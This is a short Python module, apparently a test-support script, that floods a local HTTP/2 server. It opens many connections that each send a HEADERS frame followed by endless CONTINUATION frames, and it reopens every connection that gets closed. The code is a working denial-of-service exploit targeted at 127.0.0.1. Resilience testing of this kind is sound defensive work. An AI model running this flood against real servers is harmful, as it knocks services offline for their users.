"""Connections whose first request never ends: HEADERS, then CONTINUATION frames for ever.

``python -m support.unfinished_headers PORT COUNT [tls]`` opens COUNT of them on this machine, opens
each again when it is closed, and runs until it is killed. No token is needed for it.
"""

import socket
import ssl
import sys
import threading
import time
from contextlib import suppress

from support.wire_frames import CONTINUATION, HEADERS, METHOD, PREFACE, frame, literal, unverified

HEADER_BYTES = 16_000
"""Of header fields in each frame; the most that a frame may have without asking is 16,384."""
AGAIN_S = 0.5
"""Until a connection that was closed is opened again."""


def attack(port: int, *, tls: bool) -> None:
    """Send what never ends on one connection, until it is closed."""
    fields = b"".join(literal(f"x-{number:05}", "v" * 100) for number in range(HEADER_BYTES // 110))
    more = frame(CONTINUATION, 0, 1, fields)
    plain = socket.create_connection(("127.0.0.1", port), timeout=20)
    with unverified().wrap_socket(plain) if tls else plain as connection:
        connection.sendall(PREFACE + frame(HEADERS, 0, 1, METHOD))
        while True:
            connection.sendall(more)


def _again_and_again(port: int, *, tls: bool) -> None:
    while True:
        with suppress(OSError, ssl.SSLError):
            attack(port, tls=tls)
        time.sleep(AGAIN_S)


if __name__ == "__main__":
    where, many = int(sys.argv[1]), int(sys.argv[2])
    for _ in range(many):
        threading.Thread(
            target=_again_and_again, args=(where,), kwargs={"tls": "tls" in sys.argv}, daemon=True
        ).start()
    threading.Event().wait()
